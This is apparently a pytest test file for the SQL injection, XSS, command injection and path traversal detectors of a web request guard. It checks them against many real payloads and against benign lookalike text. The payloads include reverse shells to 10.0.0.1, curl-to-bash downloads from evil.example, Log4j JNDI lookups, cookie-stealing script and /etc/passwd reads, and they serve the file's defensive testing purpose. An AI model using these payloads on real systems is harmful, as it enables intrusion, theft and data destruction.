"""The rule functions sqli(x) and xss(x): real payloads are found, ordinary text (apostrophes, numbers, SQL and
HTML words in English) is not, and a non-string is a rule error that the policy's fail mode answers."""

from __future__ import annotations

import pytest
from sqlglot.parser import Parser
from sqlglot.tokens import Tokenizer

from guard.engine import Guard
from guard.policy import load_text
from guard.policy.payloads import (
    MAX_LOOKUP_DEPTH,
    MAX_SQL_PARSE_CHARS,
    MAX_SQL_STARTS,
    MAX_SQL_STATEMENT,
    SQL_WORK_BASE,
    SQL_WORK_PER_CHAR,
    _readings,
    _SqlBudget,
    _sqli,
    code_exec,
    path_traversal,
    sqli,
    xss,
)
from guard.policy.rules import RuleError, apply_rules
from guard.subject import HttpSubject, body_text_of
from tests._backends import ScriptedBackend
from tests._linear import runs_in_time

SQL = [
    "10; DROP TABLE users --",
    "' INSERT INTO Customer (FirstName, Email) VALUES ('garak', 'pwnd@example.com'); --",
    "' UNION SELECT username, password FROM users--",
    "'; insert into users values( 1, 'garak', 'pwnd', 9 )/*",  # a comment left open
    "SELECT CASE WHEN (1=1) THEN 'A' ELSE 'B' END;",
    "x' ; UPDATE accounts SET balance = 1000000 WHERE id = 7; --",
    "DELETE FROM orders",
    "hello\nDROP TABLE IF EXISTS Album;",  # a second string value of the body
    "shoes'; DROP\fTABLE orders; --",  # a form feed is whitespace to SQL, not a line break
    "red shoes' UNION\x0bSELECT password\x0bFROM users --",  # so is a vertical tab
    "x\u2028DROP TABLE users",  # and a Unicode line separator
    "shoes'; DROP TABLE orders; I don't like these",  # prose after the statement's ';' (an open quote) hides nothing
    "shoes'; DROP TABLE orders; --" + " I really like these shoes and would buy them again." * 40,  # a long line
]
SCRIPT = [
    "<script>alert(1)</script>",
    "javascript:prompt(document.cookie)",
    "click [here](javascript:alert(1))",
    '<a href="\\x0Bjavascript:javascript:alert(1)">test</a>',
    '<img src=x onerror="alert(1)">',
    '<div style="x:expression(javascript:alert(1))">',
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K",
    "VBScript:msgbox(1)",
    "<img\nsrc=x\nonerror=alert(document.cookie)>",  # attributes on lines of their own
    "Nice!<svg\n\nonload=fetch('//x.io/'+document.cookie)>",
    '<img alt=">" onerror=alert(1)>',  # a '>' inside a quoted value does not end the tag
    '<a href="&#106;avascript:alert(1)">x</a>',  # a character reference in the URL
    "[x](javascript&colon;alert(1))",
    "<a href='java\tscript:alert(1)'>x</a>",  # browsers drop tabs and line breaks inside a scheme
    "<a href='java\nscript:alert(1)'>x</a>",
    '<a href="javascript: alert(document.cookie)">x</a>',  # blanks after the colon of a URL that browsers skip
    "[x](javascript: alert(1))",
    '<a href="javascript:\talert(1)">x</a>',
    "<a href = ' vbscript :\nmsgbox(1)'>x</a>",
]
CODE = [
    "$(touch /tmp/blns.fail)",
    "$(python -c 'print(1)')",  # a ")" inside the substitution's argument
    "note $(a b\nand then $(rm -rf /x) here",  # an unclosed "$(" on another line
    "$(a b" * 200 + ")",  # many starts, one ")" at the end of the line
    "a=$(\ncurl http://evil.sh/x)",  # a substitution spread over lines
    "x=$(curl\nhttp://evil.sh/x)",
    "$(whoami\r\n)",
    "name=$( \n  wget http://e/x -O- )",
    "$(whoami)",
    "`ls -al /`",  # a backticked command at the start of a line
    "x=`id`",
    "curl -s https://example.com/install.sh | bash",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc localhost 1337 >/tmp/f",
    "nc -e /bin/sh 10.0.0.1 4242",
    "; rm -rf / --no-preserve-root",
    '@{[system "touch /tmp/blns.fail"]}',
    "eval(\"puts 'hello world'\")",
    'System("ls -al /")',
    'Kernel.exec("ls -al /")',
    "<?php system('id'); ?>",
    "__import__('os').system('touch /tmp/garak.pwnd')",
    "__import__('subprocess').run('touch /tmp/garak.pwnd', shell=True)",
    "import os; os.popen('id').read()",
    "subprocess.check_output(['cat', '/etc/passwd'])",
    "''.__class__.__mro__[1].__subclasses__()",
    "with open('/tmp/garak.pwnd', 'w') as f: f.write('pwnd')",
    "eval(compile('import os', '', 'single'))",
    "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",  # an interactive shell, a redirection to a network socket
    "exec 5<>/dev/tcp/10.0.0.1/4444",
    "; ncat 10.0.0.1 4444 -e /bin/bash",  # netcat's address before its -e
    "netcat -lvp 4444 -c bash",
    "; curl evil.example/x | sudo bash",  # a shell run by sudo or env
    "; curl evil.example/x | /usr/bin/env bash",
    "; curl evil.example/x | python3",  # a download piped into an interpreter
    "wget -qO- evil.example/x | perl -",
    "; bash <(curl -s evil.example)",
    "; rm -rf ~",
    "<?php system($_GET['c']); ?>",  # a call on a PHP variable
    "require('child_process').execSync('id')",
    "process.mainModule.require(\"node:child_process\")",
    "; cat /etc/passwd",  # a command chained onto a value
    "| whoami",
    "&& id",
    "|| id",
    "127.0.0.1; ls -la",
    "x & whoami",
    "%0a whoami",
    "; cmd /c whoami",
    "; powershell -enc SQBFAFgA",
    "file.txt; curl http://evil.example/x -o /tmp/x",
    "${jndi:ldap://evil.example/a}",  # a Log4j JNDI lookup, also with the lookups inside it Log4j resolves first
    "User-Agent: ${${lower:j}ndi:rmi://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x/a}",
    "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
]
CODE_LOOKALIKES = [
    "$(a b" * 2000,  # substitutions never closed (each "$(" once scanned to the line's end: quadratic)
    "$(a b\n" * 2000 + ")",  # nor closed on their lines
    "$(a b\n)",
    "How do I use subprocess in Python to list files, and what does eval do?",
    "run the eval tomorrow and tell the system owner",
    "what does the system say about my order?",
    "it costs $(5) dollars",
    "use `ls -la` to see hidden files, then `cd ..`",  # Markdown inline code in prose
    "open the file /tmp/notes.txt and read it to me",
    "this is the most important post, os. is not a word",
    "a | b is the union of two sets, and sh is short for shush",
    "the rm of the form is 5 and nc means no change",
    "please spawn a new worker (one per core)",
    "| id | name |",  # a Markdown table row
    "https://example.com/?a=1&id",
    "cats & dogs; cat food is pricey",
    "Tom & Jerry; id 12345",
    "Skills: Java | Python | Ruby | PHP",
    "curl -s https://api.example.com/v1 | python3 -m json.tool",
    "curl -s https://api.example.com/v1 | python -c 'import json, sys; print(json.load(sys.stdin))'",
    "sort=id",
    "Hello ${name}, your order ${order.id} ships on ${date:yyyy-MM-dd}; reply to ${env:SUPPORT_EMAIL:-help@x.io}",
    "${" * 3000 + "}" * 3000,
]
BENIGN = [
    "I'm sure it's 1 or 2",
    "what's my card's apr? it's 19.99% or 21%",
    "It's O'Brien's turn; 1=1 is true, isn't it?",
    "how do i update my insurance",
    "delete fries from shopping list",
    "i need to delete an event from my calendar",
    "select the best option from the list",
    "Please drop the table reservation for tonight and create a new one for Friday",
    "Create a user-friendly interface for non-technical users.",
    "JavaScript: The Good Parts is a book; is data: a scheme?",
    "[JavaScript: The Good Parts](https://example.com/book), a = JavaScript: why?",
    "if 1 < 2 and 3 > 2 then <b>bold</b> is fine",
    "&lt;img src=x onerror=alert(1)&gt; is how the page shows markup",  # escaped markup is text, not a tag
    "Tom &amp; Jerry <3",
    "",
]


@pytest.mark.parametrize("text", SQL)
def test_sql_statements_are_found(text: str) -> None:
    assert sqli(text) and not xss(text)


@pytest.mark.parametrize("text", SCRIPT)
def test_script_markup_and_urls_are_found(text: str) -> None:
    assert xss(text) and not sqli(text)


@pytest.mark.parametrize("text", CODE)
def test_shell_and_interpreter_code_that_runs_commands_is_found(text: str) -> None:
    assert code_exec(text)


@pytest.mark.parametrize(("text", "check"), [
    ("id=1;DROP%20TABLE%20users", sqli), ("q=1%27%3B+DELETE+FROM+orders%3B--", sqli),
    ("%3Cscript%3Ealert(1)%3C%2Fscript%3E", xss), ("%253Cimg%2520src%3Dx%2520onerror%3Dalert(1)%253E", xss),
    ("x=%24%28whoami%29", code_exec),
    # IIS and classic ASP.NET (HttpUtility.UrlDecode) also decode %uXXXX, one UTF-16 code unit
    ("%u003cscript%u003ealert(1)%u003c/script%u003e", xss), ("<%u0073cript>alert(1)</script>", xss),
    ("1;%u0020DROP%u0020TABLE%u0020users", sqli), ("%u0027 UNION %u0053ELECT password FROM users--", sqli),
    ("%u0024(whoami)", code_exec), ("%25u003Cscript%25u003E", xss),
])  # fmt: skip
def test_url_encoded_payloads_are_found(text: str, check: object) -> None:
    """An app that decodes a field read SQL and script the escapes hid from the detectors."""
    assert check(text)  # type: ignore[operator]
    assert not check("50% off, 100%25 cotton, a+b, 20%u more")  # type: ignore[operator]


@pytest.mark.parametrize(("text", "check"), [
    ('{"comment": "\\u003cimg src=x onerror=alert(document.cookie)\\u003e"}', xss),  # Go's encoding/json
    ("\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", xss), ("sys\\u0074em('id')", code_exec),
    ("q=%5Cu003cscript%5Cu003ealert(1)", xss), ("DROP\\u0020TABLE\\u0020users", sqli),
])  # fmt: skip
def test_json_escaped_payloads_are_found(text: str, check: object) -> None:
    """A JSON document carried in a string field (a webhook's payload) is parsed by the application, which reads
    ``\\u003c`` as ``<``: the detectors read such text with its ``\\uXXXX`` escapes decoded too."""
    assert check(text)  # type: ignore[operator]
    assert not check(text.replace("u00", "x00"))  # type: ignore[operator]


def test_json_escapes_of_letters_and_surrogates_are_not_payloads() -> None:
    for text in ('{"name": "Caf\\u00e9 \\u00e0 la carte \\ud83d\\ude00"}', "C:\\users\\u00ser", "\\u00"):
        assert not (sqli(text) or xss(text) or code_exec(text)), text


@pytest.mark.parametrize(("text", "check"), [
    ("x' un\u0131on \u017felect password from users--", sqli), ("\u017felect * from users", sqli),
    ("1; DROP TABLE users".replace("T", "\uff34"), sqli), ("x=%C5%BFelect%20*%20from%20users", sqli),
    ("<\u017fcript>alert(1)</\u017fcript>", xss), ("java\u017fcript:alert(1)", xss),
    ("__\U0001d62a\U0001d62e\U0001d631\U0001d630\U0001d633\U0001d635__('os')", code_exec),
    ("\U0001d634\U0001d63a\U0001d634\U0001d635\U0001d626\U0001d62e('id')", code_exec),
    ("\uff45\uff56\uff41\uff4c(\"1+1\")", code_exec),
])  # fmt: skip
def test_payloads_in_letters_an_app_folds_to_ascii_are_found(text: str, check: object) -> None:
    """``str.upper()`` reads dotless i and long s as I and S (an app that upper-cases a value before it builds SQL
    runs ``UNION SELECT``), and Python reads identifiers in NFKC (``eval`` runs mathematical italic
    ``__import__('os')``): the detectors read such letters folded too."""
    assert check(text)  # type: ignore[operator]
    if not text.isascii():  # the folded letters are what make it a payload
        assert not check(text.encode("ascii", "replace").decode())  # type: ignore[operator]


@pytest.mark.parametrize("text", [
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\uff1cimg src=x onerror=alert(1)\uff1e",
    "\uff1csvg onload=alert(1)\uff1e", "\uff1ca href=\uff02javascript:alert(1)\uff02\uff1ex\uff1c/a\uff1e",
    "q=%EF%BC%9Cscript%EF%BC%9Ealert(1)",
])  # fmt: skip
def test_markup_in_full_width_brackets_is_found(text: str) -> None:
    """``＜script＞`` is ``<script>`` to an application that applies NFKC, and full-width punctuation was never
    folded (CJK text holds it): next to ASCII letters it is read folded by xss()."""
    assert xss(text)


def test_full_width_brackets_in_cjk_text_are_not_markup() -> None:
    for text in ("\u4e2d\u6587\uff1c\u6d4b\u8bd5\uff1e\u6807\u9898", "\u300c\u4f8b\u300d\uff02\u5f15\u7528\uff02",
                 "\u30c6\u30b9\u30c8\uff1c\u7d50\u679c\uff1e onload"):
        assert not xss(text), text


def test_text_in_other_scripts_is_not_folded_into_payloads() -> None:
    for text in ("Kap\u0131y\u0131 a\u00e7\u0131k b\u0131rak, l\u00fctfen", "Stra\u00dfe, \uff11\uff12\uff13",
                 "\u0421\u0435\u043b\u0435\u043a\u0442 \u0438\u0437 \u0441\u043f\u0438\u0441\u043a\u0430"):
        assert not (sqli(text) or xss(text) or code_exec(text)), text


def test_lookups_are_resolved_up_to_the_depth() -> None:
    def nested(depth: int) -> str:  # the j of jndi behind depth lookups inside one another
        return "${" + "${lower:" * depth + "j" + "}" * depth + "ndi:ldap://evil.example/a}"

    assert code_exec(nested(MAX_LOOKUP_DEPTH - 1))
    assert not code_exec(nested(MAX_LOOKUP_DEPTH))


@pytest.mark.parametrize("text", [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//....//etc/passwd",
    "/var/www/../../etc/shadow", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%255c..%255cwindows%255cwin.ini", "..\\/..\\/etc/passwd", "file=../../config/database.yml",
    "  ../../app/config.php", "/static/../../app.py", "see ../../../../etc/shadow", "x ..%2f..%2fapp.py",
    ".././.././etc/passwd", "..;/..;/WEB-INF/web.xml",
])  # fmt: skip
def test_paths_that_climb_folders_are_found(text: str) -> None:
    assert path_traversal(text)


@pytest.mark.parametrize("text", [
    "../assets/logo.png is not found when I build", "copy ..\\config\\app.ini to the current folder",
    "wait... what?/ and then.. /no", "." * 100_000, "../x" * 30_000, "Version 2.0../3.0.. both", "",
])  # fmt: skip
def test_one_step_up_and_dots_are_not_traversal(text: str) -> None:
    assert not path_traversal(text)


@pytest.mark.parametrize("text", [
    "import Button from '../../components/Button'", "const cfg = require('../../config/default.json');",
    "See [guide](../../docs/setup.md) for the steps", "@import '../../styles/variables';",
    '<HintPath>..\\..\\packages\\Newtonsoft.Json.12.0.3\\lib\\net45\\Newtonsoft.Json.dll</HintPath>',
    "Loading... see ../../docs/setup.md", "[INFO] Scanning for projects...\n[INFO] parent ../../parent/pom.xml",
    "see ../../docs/setup.md " + "." * 100_000,
])  # fmt: skip
def test_relative_links_and_imports_inside_a_line_are_not_traversal(text: str) -> None:
    """A climb inside a line of code or prose (an import, a Markdown link, an MSBuild hint path; an ellipsis elsewhere
    in the text is not an evasive climb) is no traversal: a climb counts where its path starts the line or follows
    ``=``, is written evasively, or reaches a system file or folder."""
    assert not path_traversal(text)
    assert path_traversal(text.replace("../../", "../../../etc/passwd ").replace("..\\..\\", "....//....//"))


@pytest.mark.parametrize("text", [
    "images/../../../../app/config.py", "static/../../../config/app.py", "name\n./a/b/../../../app/main.py",
    "<r><file>../../../config/database.yml</file></r>", 'file="../../app/secret.key"', "f=uploads/../../app.py",
])  # fmt: skip
def test_a_relative_path_that_climbs_above_its_start_or_a_climb_in_a_tag_or_quoted_value_is_traversal(text: str) -> None:
    """A relative prefix before the climb (``images/../../``), a tag's ``>`` and a quoted value's ``="`` hid a climb
    that reaches above where the path starts."""
    assert path_traversal(text)


@pytest.mark.parametrize("text", [
    "images/./../../../../app/config.py", "a/b/c/d/e/../../../../../../app/config.py",
    "file=a/b/c/d/e/../../../../../../app/config.py", "<file> ../../../config/database.yml</file>",
    'file = "../../../app/secret.key"',
])  # fmt: skip
def test_a_climb_counted_by_depth_after_dot_steps_or_a_long_prefix_or_after_blanks_is_traversal(text: str) -> None:
    """A relative prefix was read as one to four folders without ``./`` steps, and a tag's ``>`` or a quoted value's
    ``="`` had to come right before the climb; a path's folders and steps up are counted instead, after blanks too."""
    assert path_traversal(text)


@pytest.mark.parametrize("text", [
    "a/b/../../config.py", "src/../lib/../app.py", '<link rel="stylesheet" href="../../assets/main.css">',
    '<ProjectReference Include="..\\..\\src\\Lib\\Lib.csproj" />', "[submodule \"lib\"]\n\turl = ../../org/lib.git",
    'path = "./a/b/../../../c"',
])  # fmt: skip
def test_a_path_that_stays_inside_its_start_or_a_link_attribute_is_not_traversal(text: str) -> None:
    assert not path_traversal(text)


@pytest.mark.parametrize("text", [
    "<parent>\n  <relativePath>../../pom.xml</relativePath>\n</parent>", "<module>../../modules/api</module>",
    '<ProjectReference Include="../../src/Core/Core.csproj" />', '<Import Project="../../build/common.props" />',
    '<img src="logo.png" data-fallback="../../img/logo.png">',
    'module "vpc" {\n  source = "../../modules/vpc"\n}', 'shared = { path = "../../crates/shared" }',
])  # fmt: skip
def test_a_build_files_climb_of_two_folders_in_markup_is_not_traversal(text: str) -> None:
    """Maven's and MSBuild's relative paths reach two folders up in a tag's content or attribute, and Terraform's
    module sources and Cargo's path dependencies in a quoted value after a blank and ``=``; there a climb counts from three
    folders above its start."""
    assert not path_traversal(text)
    assert path_traversal(text.replace("../../", "../../../"))


@pytest.mark.parametrize("text", [
    '<option value="JavaScript: The Good Parts">', 'title = "JavaScript: basics"',
    '<img src="cover.png" alt="JavaScript: Understanding the Weird Parts">', "subject = 'VBScript: legacy macros'",
])  # fmt: skip
def test_a_title_in_a_quoted_value_is_not_a_script_url(text: str) -> None:
    """Blanks after a script scheme's colon counted in any quoted value, so titles were script URLs; they count in
    the value of an attribute that holds a URL, which a browser runs."""
    assert not xss(text)
    assert xss(text.replace("value=", "href=").replace("alt=", "src=").replace("title =", "action =")
               .replace("subject =", "formaction ="))


@pytest.mark.parametrize("text", [
    "Shipping country (select from list)", "Tickets (select a seat from the map) are 20 EUR",
    "Your avatar (select an image from your computer) must be under 2 MB", "(Select one from the following) Red, Blue",
])  # fmt: skip
def test_a_parenthetical_aside_after_a_word_is_english(text: str) -> None:
    """Any ``(`` before a SELECT of bare words made it SQL, so parenthetical asides in forms were statements; a ``(``
    does after an operator or an SQL keyword (``1 AND (SELECT``, ``'||(SELECT``, ``IN (``)."""
    assert not sqli(text)
    assert sqli("1 AND (select password from users) > 0") and sqli("x'||(select password from users)||'")


@pytest.mark.parametrize("text", [
    '<a href="\x01javascript: alert(1)">x</a>', "[x](<javascript: alert(1)>)", "[x][1]\n\n[1]: <javascript: alert(1)>",
    "[x][1]\n> [1]: <javascript: alert(1)>", "- [x][1]\n- [1]: <javascript: alert(1)>", "1. x\n   2) [1]: <javascript: x>",
])  # fmt: skip
def test_a_script_url_after_control_characters_or_in_angle_brackets_is_xss(text: str) -> None:
    """Browsers strip control characters before a URL's scheme, and CommonMark reads a link target or a link reference
    definition's destination in ``<...>``, also inside a block quote or list item; a footnote after a reference is not
    one."""
    assert xss(text)
    assert not xss("JavaScript, a guide [1]\n\n[1]: JavaScript: The Good Parts, O'Reilly, 2008")
    assert not xss("JavaScript, a guide [1]\n> [1]: JavaScript: The Good Parts")


@pytest.mark.parametrize("text", CODE_LOOKALIKES)
def test_talk_about_code_and_commands_is_not_code(text: str) -> None:
    assert not code_exec(text)


@pytest.mark.parametrize("text", [
    "cd build && ls -la", "I ran `make; ls -la` and the build folder is empty.",
    "ssh into the box; cat /var/log/nginx/error.log shows 502s", "On the CI runner: uname -a; cat /etc/os-release",
    "make clean && make; ls -l out/", "clean:\n\trm -rf build/ dist/; ls",
])  # fmt: skip
def test_commands_after_a_command_line_or_a_sentence_are_not_chained_onto_a_value(text: str) -> None:
    """A command after a separator in a shell transcript or a ticket is not chained onto a value: it counts after a
    value (one word from the start of its line, or a closing quote) or ``%0a``."""
    assert not code_exec(text)


@pytest.mark.parametrize("text", [
    "build && ls -la", "127.0.0.1; ls -la", "x'; cat /var/log/nginx/error.log", "  out/; ls", 'name" | id',
    "a %0a whoami", "127.0.0.1;id;", "x; whoami #", "x; cat</etc/passwd", "x;/bin/cat /etc/passwd", "x%0awhoami%0a",
])  # fmt: skip
def test_commands_chained_onto_a_value_are_code(text: str) -> None:
    assert code_exec(text)


@pytest.mark.parametrize("text", [
    "x\nwhoami\n", "127.0.0.1\ncat /etc/passwd", "x\r\nuname", "8.8.8.8\n/bin/ls -la /", "a\ncurl http://e.example/x",
])  # fmt: skip
def test_a_command_on_the_line_after_a_value_is_code(text: str) -> None:
    """A query is URL-decoded before the detectors read it, so ``%0a`` before a command is a line break."""
    assert code_exec(text)


@pytest.mark.parametrize("text", [
    "shoes\nid", "dogs\ncat", "Steps:\nls -la", "```bash\ncat /etc/os-release\n```", "Hello there\ncat /etc/hosts",
])  # fmt: skip
def test_a_value_or_a_line_of_words_before_a_command_name_is_not_code(text: str) -> None:
    """A query's or JSON body's values are joined with line breaks (``?q=shoes&sort=id``)."""
    assert not code_exec(text)


@pytest.mark.parametrize("text", [
    body_text_of({"priority": "high", "description": "curl -I https://app.example.com/login returns 502 since 10:00"}),
    body_text_of({"status": "open", "comment": "ls -la /var/www/uploads shows the files are owned by root"}),
    "Hi,\ncurl -v https://api.example.com/v1/me gives 401 with a fresh token",
])  # fmt: skip
def test_a_command_line_that_a_sentence_goes_on_from_after_a_value_is_not_code(text: str) -> None:
    """A body's values are joined with line breaks, so a one-word field (a ticket's priority) put a description that
    opens with a command line on the line after a value; the command counts there when only its arguments follow."""
    assert not code_exec(text)
    assert code_exec(text.split(" ", 2)[0] + " " + text.split(" ", 2)[1])


@pytest.mark.parametrize("text", ["x|id|", "x&id&", "x||id||", "127.0.0.1|whoami||"])
def test_a_chained_command_with_a_separator_after_it_is_code(text: str) -> None:
    assert code_exec(text)


@pytest.mark.parametrize("text", ["| id | name |", "|id|name|", "page=1&id=2", "a=1&cat=2&id", "R&D&ls"])
def test_table_rows_and_query_strings_are_not_chained_commands(text: str) -> None:
    assert not code_exec(text)


@pytest.mark.parametrize("text", [
    "8.8.8.8 -c 1; id", "Bob Smith; cat /etc/passwd", "a b; wget http://e.example/x -O /tmp/x", "a b c1 & whoami",
    "Bob Smith && /usr/bin/id",
])  # fmt: skip
def test_a_command_chained_after_several_words_that_ends_the_value_or_reads_a_secret_is_code(text: str) -> None:
    """A command chained after more than one word counted only after a value of at most one word."""
    assert code_exec(text)


@pytest.mark.parametrize("text", [
    "cd app && curl http://localhost:8080/health", "first name | id", "On the CI runner: uname -a; cat /etc/os-release",
])  # fmt: skip
def test_a_command_after_a_sentence_that_neither_ends_it_nor_reads_a_secret_is_not_code(text: str) -> None:
    assert not code_exec(text)


@pytest.mark.parametrize("text", [
    "x || id", "127.0.0.1 || cat /etc/passwd", "8.8.8.8 -c 1 || id", "8.8.8.8 -c 1; uname -a", "8.8.8.8 -c 1; id -u",
    "8.8.8.8 -c 1&&whoami>/tmp/x", "8.8.8.8 -c 1; whoami 2>&1", "a b; cat</etc/passwd", "127.0.0.1;cat${IFS}/etc/passwd",
    "8.8.8.8 -c 1\nwhoami", "127.0.0.1\n\nwhoami",
    "localhost&&whoami>/tmp/x", "x;id>/tmp/o", "localhost || whoami 2>&1", "x && whoami 2>/dev/null",
])  # fmt: skip
def test_a_command_after_or_with_options_a_redirection_or_ifs_or_after_a_value_with_options_is_code(text: str) -> None:
    """``||`` with blanks around it, an option or a redirection after id, whoami or uname (a redirection also after a
    value that ends in a word: ``localhost&&whoami>/tmp/x``), ``<`` or ``${IFS}`` before cat's path, a value with
    options (``8.8.8.8 -c 1``) or blank lines before a command on a line of its own."""
    assert code_exec(text)


@pytest.mark.parametrize("text", [
    "It prints the name & id", "Steps: log in; id", "Profile: Bob Smith; id", "Done with the migration; whoami",
    "Build step failed; wget https://mirror.example.com/node.tar.gz -O /tmp/node.tar.gz returned 404",
    "I checked the permissions; cat /etc/passwd lists the deploy user, so it exists",
])  # fmt: skip
def test_a_command_name_after_a_word_or_a_command_line_a_sentence_goes_on_from_is_not_code(text: str) -> None:
    """After several words, id, whoami or uname counted whatever came before the separator, and a read of
    /etc/passwd or a download to /tmp whatever came after; they count after a value that does not end in a word of
    letters, and a command line counts when it ends the line."""
    assert not code_exec(text)
    assert code_exec(text.replace(" & id", "1 & id").replace(" in; id", " in1; id").replace("Smith; id", "Smith1; id")
                     .replace("migration;", "migration/;").split(" returned")[0].split(" lists")[0])


@pytest.mark.parametrize("text", ["nc.traditional 10.0.0.1 4444 -e /bin/sh", "curl http://x.example/a | sudo -u root bash"])
def test_netcat_variants_and_sudo_with_a_user_are_code(text: str) -> None:
    assert code_exec(text)


@pytest.mark.parametrize("text", BENIGN)
def test_ordinary_text_is_not_flagged(text: str) -> None:
    assert not sqli(text) and not xss(text) and not code_exec(text)


def test_a_statement_inside_a_longer_line_counts_and_prose_after_it_does_not_hide_it() -> None:
    assert sqli("search for: x'; DROP TABLE users; --")
    assert not sqli("search for: x'; DROP the users a line")


def test_a_select_of_bare_words_is_english_unless_sql_comes_right_before_it() -> None:
    """sqlglot reads "Select a date from the calendar" as ``SELECT a AS date FROM the AS calendar``: 21 of 40 short UI
    lines and searches were blocked as SQL statements."""
    for text in ("Select a date from the calendar", "select all from inbox", "How to select text from a PDF",
                 "Select an item from the cart", "Insert image from URL",
                 "Kids can select one toy from the box; parents update the sheet after."):
        assert not sqli(text), text
    for text in ("x'; select password from users", "1 UNION ALL select password from users", "10 select name from t",
                 "x'/**/UNION/**/SELECT/**/password/**/FROM/**/users", "select password from users where admin",
                 "select password from users --", "x' UNION select password from users", "SELECT * FROM users"):
        assert sqli(text), text


def test_subqueries_column_probes_and_a_quote_left_for_the_host_query_count() -> None:
    # a subquery closed by a ")" opened before it (blind and error-based injection)
    assert sqli("1 AND (SELECT COUNT(*) FROM users) > 0")
    assert sqli("1'||(SELECT password FROM users LIMIT 1)||'")
    assert sqli("' OR EXISTS(SELECT * FROM users WHERE name='admin' AND password LIKE 'a%')--")
    # a quote left open for the host query to close; an apostrophe after a letter is prose
    assert sqli("' UNION SELECT password FROM users WHERE '1'='1")
    assert sqli("1'; SELECT * FROM users WHERE 'a'='a")
    assert not sqli("select the one from the list, it's nice")
    assert not sqli("Select the tab from Bob's bar")
    # after UNION a SELECT counts whatever it selects, unless bare words
    assert sqli("1' UNION SELECT 1,2,3-- -")
    assert sqli("' UNION ALL SELECT NULL,NULL,NULL--")
    assert sqli("-1 UNION SELECT 1,2,user()")
    assert not sqli("how to use union select in mysql")


def test_a_statement_split_over_lines_of_one_value_counts() -> None:
    """SQL reads a line break as a space; each line was parsed alone, so a newline inside a value hid the statement."""
    for text in ("'; DROP\nTABLE users; --", "'; DELETE\nFROM users; --", "' UNION SELECT password\nFROM users--",
                 "'; UPDATE users\nSET role='admin' WHERE name='bob'; --", "'\nUNION\nSELECT\npassword\nFROM\nusers--",
                 "DROP\nTABLE users"):
        assert sqli(text), text
    for text in ("Please update\nyour profile", "select\na date from the calendar", "Order 12\nSelect a date from the calendar",
                 "I will drop\nby tomorrow", "x'; update\nme when you can"):
        assert not sqli(text), text


def test_mysql_comments_hex_literals_and_versioned_comments_are_read_as_mysql_reads_them() -> None:
    for text in ("1' union select password from users#", "1'/**/union/**/select/**/password/**/from/**/users#",
                 "' UNION SELECT password FROM users WHERE name=0x61646d696e--",
                 "' /*!50000UNION*/ /*!50000SELECT*/ password FROM users--"):
        assert sqli(text), text
    for text in ("Select photos from gallery #summer #2024", "I code in C# and select my tools from the list",
                 "select the 0x1F colour from the palette", "/*! select the best one from the list */"):
        assert not sqli(text), text


def test_sqli_stops_parsing_at_its_bounds_and_a_text_past_them_counts_as_sql() -> None:
    # a statement is parsed from its keyword for at most MAX_SQL_STATEMENT characters, whatever the line's length
    padded = "x" * (2 * MAX_SQL_STATEMENT) + " '; DROP TABLE orders; --"
    assert sqli(padded)
    # past the first MAX_SQL_STARTS keywords only statement-shaped ones are parsed: prose repeating a keyword is
    # prose (a 40 KB document saying "update your password" 600 times counted as SQL before)
    decoys = "drop it " * MAX_SQL_STARTS
    assert not sqli(decoys + "drop it")
    assert not sqli(" ".join(["Please update your password before the end of the month."] * 600))
    assert sqli(decoys + "drop table orders")  # a statement after the decoys is still parsed
    # statement-shaped prose is charged to the budget but not counted: a changelog of 120 UI bullets is prose
    shaped = "".join(f"select option {n} of the {n} best from the list, " for n in range(MAX_SQL_STARTS))
    assert not sqli(shaped + "select option x of the best from the list")
    changelog = "\n".join(f"- Select a date range from the calendar to filter report {n} (#{4000 + n})"
                           for n in range(120))
    assert not sqli(changelog) and sqli(changelog + "\n1 UNION SELECT password FROM users")
    # repeated boilerplate is parsed once; a candidate that differs only far from its keyword is parsed again
    assert not sqli("Select the best option from the list. " * 300)
    columns = ", ".join(f"c{n}" for n in range(60))
    assert sqli(f"x' UNION SELECT {columns} FROM (; x' UNION SELECT {columns} FROM users--")
    # text built to parse slowly: the parser reads at most MAX_SQL_PARSE_CHARS of it; past that, a keyword shaped
    # like a statement counts as SQL and one that is not is skipped
    slow = "".join(f"select {n}," + ",".join(["(1)"] * 600) + "\n" for n in range(MAX_SQL_STARTS))
    assert len(slow) > MAX_SQL_PARSE_CHARS and not sqli(slow)
    assert sqli(slow + "x'; DROP TABLE users; --") and sqli(slow + "1 UNION SELECT password FROM users")
    assert not sqli("select " + ",".join(["(1)"] * 600))  # one such line is read whole, and is not code
    # prose that sqlglot keeps as an unparsed command costs little and is not counted: a long one-line plan is prose
    plan = " ".join(f"Step {i}: create a branch, alter the onboarding copy, and drop the rest to the next sprint; "
                    f"then update the mockups and select two people to try it." for i in range(80))
    assert not sqli(plan)


@pytest.mark.parametrize("text", ["1'/**/UNION/**/SELECT/**/1,2-- -", "'; DROP -- c\nTABLE users; --"])
def test_sqli_reads_comments_as_sql_does(text: str) -> None:
    """A comment between UNION and SELECT hid the UNION, and lines joined with a space let a ``--`` comment swallow
    the next line."""
    assert sqli(text)


@pytest.mark.parametrize("text", [
    "1' UNION(SELECT 1,2,3)-- -", "1' UNION ALL(SELECT 1,2)-- -", "1' UNION/**/(SELECT 1,2)-- -",
    "1'/***/UNION/***/SELECT/***/1,2-- -", "1' UNION -- x\nSELECT 1,2-- -",
    "1' UNION(SELECT password FROM users)-- -", "1 UNION(SELECT NULL)", "1' UNION (SELECT username FROM users)#",
])  # fmt: skip
def test_a_column_probe_after_union_and_a_bracket_or_a_comment_holding_stars_or_ending_the_line_is_sql(text: str) -> None:
    """A ``(`` after UNION, a comment with ``*`` inside it or a ``--`` comment ending UNION's line hid the UNION
